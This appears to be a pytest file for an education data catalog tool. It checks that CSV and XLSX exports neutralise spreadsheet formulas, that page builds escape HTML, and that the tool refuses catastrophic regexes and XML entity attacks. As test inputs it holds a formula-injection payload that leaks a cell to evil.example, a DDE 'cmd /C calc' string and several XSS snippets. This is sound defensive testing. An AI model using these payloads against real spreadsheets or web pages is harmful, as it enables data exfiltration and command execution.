"""Hostile input, round two: formulas never reach a spreadsheet, killed builds leave nothing,
JSON output survives any failure, unsafe patterns are refused (the corpus in tests/data/bad/
holds the located-finding cases)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from educat.cli import cli
from educat.core.cells import FORMULA_START, csv_safe, starts_formula
from educat.site.build import build_site, remove_stale
from educat.tables.identifiers import backtracking_risk

from .conftest import write

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@given(st.text(max_size=30))
def test_csv_safe_never_leaves_a_formula_start(text):
    value = csv_safe(text)
    assert not starts_formula(value)
    assert value == text or value == "'" + text  # the text itself is never changed otherwise


def plant_formulas(root):
    """Formula-like text in a record title and a code name, and in dataset cells."""
    path = root / "catalog/resources/junior.yaml"
    text = path.read_text(encoding="utf-8").replace("title: 有理数的加法(示例)", "title: '=HYPERLINK(\"https://evil.example\",\"点我\")'")
    path.write_text(text, encoding="utf-8")
    write(root / "standards/demo/1.0.0/codelists/gender.csv", "code,name,description\n0,未知的性别,\n1,男,\n2,女,\n9,@SUM(1+1),\n")


def test_catalog_csv_and_export_neutralise_formulas(mini_repo, tmp_path):
    plant_formulas(mini_repo)
    out = tmp_path / "catalog.csv"
    result = CliRunner().invoke(cli, ["export", "--root", str(mini_repo), "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"https://evil.example\",\"点我\")" in cells
    assert not any(starts_formula(cell) for cell in cells)


def test_downloads_and_template_have_no_formula_cells(mini_repo, tmp_path):
    from educat.core.loader import load_repo
    from educat.site.dataset_pages import DatasetPages
    from educat.standards.template import template_bytes

    plant_formulas(mini_repo)
    repo, _ = load_repo(mini_repo)
    std = repo.standards["demo"]["1.0.0"]
    book = load_workbook(io.BytesIO(template_bytes(std.entities["org"], std, repo)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == "@SUM(1+1)" for cell in cells)  # the code name is there, as text
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    res = repo.datasets["orgs"].resources[0]
    res.fields = [std.entities["org"].field("org_id")]
    data = DatasetPages.xlsx(res, [{"org_id": value} for value in FORMULAS])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet["A"][1:]] == FORMULAS
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert DatasetPages.xlsx(res, [{"org_id": "1"}]) == DatasetPages.xlsx(res, [{"org_id": "1"}])  # repeatable bytes


def test_dataset_csv_download_neutralises_formula_cells():
    import pandas as pd

    from educat.site.dataset_pages import frame_csv

    frame = pd.DataFrame({"name": FORMULAS, "count": [-1, 2, 3, 4, 5, 6]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in FORMULAS]
    assert [row[1] for row in rows[1:]] == ["-1", "2", "3", "4", "5", "6"]  # numbers are not touched


def test_formula_starts_are_the_owasp_set():
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")


# -- builds that were killed ------------------------------------------------------------------------
def test_a_build_removes_what_a_killed_build_left(mini_repo, tmp_path):
    out = mini_repo / "site"
    stale = mini_repo / ".site-build-dead1234"
    (stale / "assets").mkdir(parents=True)
    (mini_repo / ".site-build-dead1234.pid").write_text("999999999", encoding="ascii")  # no such process
    orphan = mini_repo / ".site-old-.site-build-gone"
    orphan.mkdir()
    running = mini_repo / ".site-build-alive"
    running.mkdir()
    (mini_repo / ".site-build-alive.pid").write_text(str(os.getpid()), encoding="ascii")  # this process: alive
    build_site(mini_repo, out)
    left = sorted(p.name for p in mini_repo.iterdir() if p.name.startswith(".site-"))
    assert left == [".site-build-alive", ".site-build-alive.pid"]
    assert remove_stale(out) == []


def test_a_killed_build_is_cleaned_by_the_next_one(mini_repo):
    """Kill a real build half-way (SIGKILL, no cleanup runs), then build again."""
    code = (
        "import os, sys\n"
        "from educat.site import build\n"
        "real = build.mkdocs_build\n"
        "def killed(config):\n"
        "    (build.Path(config['site_dir']) / 'half.html').write_text('x')\n"
        "    os.kill(os.getpid(), 9)\n"
        "build.mkdocs_build = killed\n"
        f"build.build_site(build.Path({str(mini_repo)!r}), build.Path({str(mini_repo / 'site')!r}))\n"
    )
    subprocess.run([sys.executable, "-c", code], check=False)
    assert [p.name for p in mini_repo.iterdir() if p.name.startswith(".site-build-") and p.is_dir()]  # the kill left one
    build_site(mini_repo, mini_repo / "site")
    assert [p.name for p in mini_repo.iterdir() if p.name.startswith(".site-")] == []


# -- JSON output never breaks ----------------------------------------------------------------------
def test_json_output_survives_an_internal_error(mini_repo, monkeypatch):
    import educat.validate

    def boom(*args, **kwargs):
        raise RuntimeError("模拟的缺陷")

    monkeypatch.setattr(educat.validate, "validate_repo", boom)
    result = CliRunner().invoke(cli, ["validate", "--root", str(mini_repo), "--format", "json"])
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert (data["command"], data["valid"]) == ("validate", False)
    assert [(f["type"], f["severity"]) for f in data["findings"]] == [("internal-error", "error")]
    assert "模拟的缺陷" in data["findings"][0]["message"] and "Traceback" not in result.output


def test_json_output_when_the_command_cannot_start(tmp_path):
    payload = write(tmp_path / "p.json", "{")
    result = CliRunner().invoke(cli, ["check-api", str(payload), "--operation", "listStudents", "--format", "json"])
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert data["findings"][0]["type"] == "command-error" and "JSON 格式错误" in data["findings"][0]["message"]


def test_deep_json_payload_is_refused_with_a_place(tmp_path):
    payload = write(tmp_path / "deep.json", "[" * 200000 + "]" * 200000)
    result = CliRunner().invoke(cli, ["check-api", str(payload), "--operation", "listStudents"])
    assert result.exit_code == 1
    assert result.output == f"错误:{payload}:1: JSON 嵌套层数过多(超过 64 层)\n"


# -- patterns --------------------------------------------------------------------------------------
@pytest.mark.parametrize("pattern", [r"^(a+)+$", r"^(a*)*$", r"^(\w+\s?)*$", r"^(a|a)*$", r"^(x+x+)+y$", r"^((ab)+)+$", r"^(.*a){20}$"])
def test_catastrophic_patterns_are_refused(pattern):
    assert backtracking_risk(pattern)


@pytest.mark.parametrize("pattern", [r"^[0-9]{6}$", r"^https?://[^\s]+$", r"^[a-z][a-z0-9-]{2,39}$", r"^(\d{3}-)+\d$", r"^EQ-[0-9]{10}-[0-9]{4}$", r"^(ab|cd)*$", r"^[1-9]\d{5}(18|19|20)\d{2}$"])
def test_ordinary_patterns_pass(pattern):
    assert backtracking_risk(pattern) is None


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab()+*?|.", max_size=12))
def test_the_pattern_check_never_crashes(pattern):
    backtracking_risk(pattern)


# -- report text on pages --------------------------------------------------------------------------
def test_a_cell_cannot_close_the_report_around_it(mini_repo):
    """The invalid example's cell holds fences, a blank line and markup; the standard page shows
    the check report with all of it escaped, and nothing else changes on the page."""
    cell = '"3```` ``` \n\n</code></pre><script>window.__pwned=1</script>"'
    from .conftest import GOOD_USCC

    write(mini_repo / "standards/demo/1.0.0/examples/org-invalid.csv", f"org_id,uscc,gender,staff\n0001,{GOOD_USCC},{cell},5\n")
    site = build_site(mini_repo, mini_repo / "site")
    html = (site / "standards/demo/1.0.0/index.html").read_text(encoding="utf-8")
    assert "<script>window.__pwned" not in html
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html  # the value is shown, escaped
    assert html.count('<div class="highlight"><pre><code>') == 1  # the report, in one HTML line


# -- what of a dataset is published ----------------------------------------------------------------
def set_open_type(root, open_type: str, with_internal_field: bool = True):
    path = root / "datasets/orgs/datapackage.yaml"
    text = path.read_text(encoding="utf-8").replace("open_type: 无条件开放", f"open_type: {open_type}")
    if with_internal_field:  # gender is 内部 in the entity: it must never be published
        text = text.replace("        - {name: staff}\n", "        - {name: staff}\n        - {name: gender}\n")
        write(root / "datasets/orgs/data/orgs.csv", "org_id,uscc,staff,gender\n0001,,12,1\n0002,,3,2\n")
    path.write_text(text, encoding="utf-8")


def site_files(site) -> list[str]:
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())


def test_a_field_more_sensitive_than_public_is_never_published(mini_repo):
    set_open_type(mini_repo, "无条件开放")
    site = build_site(mini_repo, mini_repo / "site")
    for name in ("orgs.csv", "orgs.json", "orgs.xlsx"):
        assert (site / "datasets/orgs/downloads" / name).is_file()
    assert "gender" not in (site / "datasets/orgs/downloads/orgs.csv").read_text(encoding="utf-8-sig")
    assert "gender" not in (site / "datasets/orgs/downloads/orgs.json").read_text(encoding="utf-8")
    assert [c.value for c in load_workbook(site / "datasets/orgs/downloads/orgs.xlsx").active[1]] == ["org_id", "uscc", "staff"]
    page = (site / "datasets/orgs/index.html").read_text(encoding="utf-8")
    assert "负责人性别" not in page and "files/data/orgs.csv" not in site_files(site)
    assert not any(p.endswith("data/orgs.csv") for p in site_files(site))  # raw data files are not published


def test_a_dataset_open_on_request_has_metadata_and_no_data(mini_repo):
    set_open_type(mini_repo, "有条件开放")
    result = CliRunner().invoke(cli, ["validate", "--root", str(mini_repo), "--format", "json"])
    assert ("metadata-only", "info") in [(f["type"], f["severity"]) for f in json.loads(result.stdout)["findings"]]
    site = build_site(mini_repo, mini_repo / "site")
    page = (site / "datasets/orgs/index.html").read_text(encoding="utf-8")
    assert "如何申请数据" in page and "数据预览" not in page and "字段概况" not in page
    assert [p for p in site_files(site) if p.startswith("datasets/orgs/downloads/")] == ["datasets/orgs/downloads/datapackage.json"]
    assert "downloadURL" not in (site / "datasets.json").read_text(encoding="utf-8")


def test_a_dataset_not_open_is_not_published_at_all(mini_repo):
    set_open_type(mini_repo, "不予开放")
    result = CliRunner().invoke(cli, ["validate", "--root", str(mini_repo), "--format", "json"])
    data = json.loads(result.stdout)
    assert data["valid"] and ("not-published", "info") in [(f["type"], f["severity"]) for f in data["findings"]]
    site = build_site(mini_repo, mini_repo / "site")
    files = site_files(site)
    assert not [p for p in files if p.startswith("datasets/orgs/")]
    everything = "".join(p.read_text(encoding="utf-8", errors="replace") for p in site.rglob("*") if p.suffix in (".html", ".json", ".xml"))
    assert "机构名录" not in everything and "0002" not in (site / "datasets.json").read_text(encoding="utf-8")


@pytest.mark.parametrize("line", ['<script>alert(1)</script>', '<img src=x onerror="alert(1)">', "[点我](javascript:alert(1))", "[点我](&#106;avascript:alert(1))"])
def test_script_in_a_docs_page_is_warned_about_with_its_line(mini_repo, line):
    write(mini_repo / "docs/about.md", f"# 关于\n\n正文。\n{line}\n")
    result = CliRunner().invoke(cli, ["validate", "--root", str(mini_repo), "--format", "json"])
    warned = [(f["type"], f["path"], f["line"]) for f in json.loads(result.stdout)["findings"] if f["severity"] == "warning"]
    assert ("script-warning", "docs/about.md", 4) in warned


def test_an_xlsx_past_the_row_limit_is_refused_before_it_is_loaded(tmp_path, monkeypatch):
    from openpyxl import Workbook

    from educat.core.loader import load_repo
    from educat.tables import readers
    from educat.tables.check import check_file

    from .conftest import REPO

    monkeypatch.setattr(readers, "MAX_XLSX_ROWS", 50)
    book = Workbook(write_only=True)
    sheet = book.create_sheet("数据")
    sheet.append(["student_id", "name"])
    for number in range(60):
        sheet.append([f"2025{number:08d}", "甲"])
    path = tmp_path / "big.xlsx"
    book.save(path)
    repo, _ = load_repo(REPO, standards_only=True)
    report = check_file(path, repo, "edu-basic-data@1.0.0", "student")
    assert [(f.type, f.row) for f in report.findings] == [("file-error", 51)]
    assert "CSV" in report.findings[0].note


def test_a_declared_grouping_dimension_is_published_with_its_reason(mini_repo):
    set_open_type(mini_repo, "无条件开放")
    path = mini_repo / "datasets/orgs/datapackage.yaml"
    text = path.read_text(encoding="utf-8").replace("      entity: demo@1.0.0/org\n", "      entity: demo@1.0.0/org\n      publish:\n        gender: 汇总统计的分组维度,不对应具体个人(测试)\n      primaryKey: [org_id, gender]\n")
    path.write_text(text, encoding="utf-8")
    site = build_site(mini_repo, mini_repo / "site")
    assert (site / "datasets/orgs/downloads/orgs.csv").read_text(encoding="utf-8-sig").splitlines()[0] == "org_id,uscc,staff,gender"
    package = json.loads((site / "datasets/orgs/downloads/datapackage.json").read_text(encoding="utf-8"))
    assert package["resources"][0]["schema"]["primaryKey"] == ["org_id", "gender"]
    path.write_text(text.replace("        gender: 汇总统计的分组维度,不对应具体个人(测试)\n", "        sex: 汇总统计的分组维度,不对应具体个人(测试)\n"), encoding="utf-8")
    result = CliRunner().invoke(cli, ["validate", "--root", str(mini_repo), "--format", "json"])
    assert ("dangling-reference", "sex") in [(f["type"], f["field"]) for f in json.loads(result.stdout)["findings"]]


@pytest.mark.parametrize(
    ("kind", "says"),
    [
        ("entities", "XML 部件 xl/worksheets/sheet1.xml 含有 DOCTYPE 或实体声明"),
        ("truncated", "XML 部件 xl/worksheets/sheet1.xml 第 1 行第"),
    ],
)
def test_xml_attacks_in_a_workbook_name_the_part_and_expand_nothing(tmp_path, kind, says):
    from educat.tables.readers import ReadError, read_table

    from .test_bad_inputs import make_xlsx

    path = tmp_path / "in.xlsx"
    make_xlsx(path, kind)
    with pytest.raises(ReadError) as caught:
        read_table(path)
    assert says in str(caught.value)


def test_an_unreadable_workbook_that_is_no_zip_says_so(tmp_path):
    from educat.tables.readers import ReadError, read_table

    path = tmp_path / "in.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    with pytest.raises(ReadError, match="不是有效的 XLSX 文件"):
        read_table(path)


def test_a_docs_page_at_a_generated_address_fails_the_build_and_keeps_the_old_site(mini_repo):
    from educat.site.build import BuildError, build_site

    out = mini_repo / "site"
    build_site(mini_repo, out)
    before = (out / "catalog/r/demo-math-weike/index.html").read_bytes()
    (mini_repo / "docs/catalog/r").mkdir(parents=True)
    (mini_repo / "docs/catalog/r/demo-math-weike.md").write_text("# 冒名页面\n", encoding="utf-8")
    with pytest.raises(BuildError, match="会写到同一个网址 catalog/r/demo-math-weike/index.html"):
        build_site(mini_repo, out)
    assert (out / "catalog/r/demo-math-weike/index.html").read_bytes() == before


def test_a_full_disk_says_the_old_site_is_intact(mini_repo, monkeypatch):
    import errno

    from educat.site import build
    from educat.site.build import BuildError, build_site

    out = mini_repo / "site"
    build_site(mini_repo, out)
    before = sorted(p.relative_to(out).as_posix() for p in out.rglob("*"))

    def full(config):
        raise OSError(errno.ENOSPC, "No space left on device", str(mini_repo / "x"))

    monkeypatch.setattr(build, "mkdocs_build", full)
    with pytest.raises(BuildError, match="磁盘空间不足.*原网站保持不变"):
        build_site(mini_repo, out)
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == before
    assert [p.name for p in mini_repo.iterdir() if p.name.startswith(".site-build-")] == []
